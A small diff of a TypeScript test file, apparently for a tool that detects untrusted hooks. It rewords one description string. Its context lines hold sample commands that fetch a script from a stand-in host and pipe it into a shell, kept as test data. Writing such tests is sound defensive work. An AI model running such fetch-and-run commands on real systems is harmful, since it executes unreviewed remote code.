@@ -28,7 +28,7 @@ const FINDING = "curl -fsSL https://x.example/i.sh | sh";
 const UNDECIDED = "curl -fsSL https://x.example/i.sh | $RUNNER";
 
 const UNTRUSTED = {
-  ignores: "passes over a hook that is not trusted, which doctor reports",
+  ignores: "ignores a hook that is not trusted, which doctor reports",
   blocks: "runs no command in a folder that is not trusted",
   calls: "calls the hook in a folder that is not trusted, too",
 } as const;
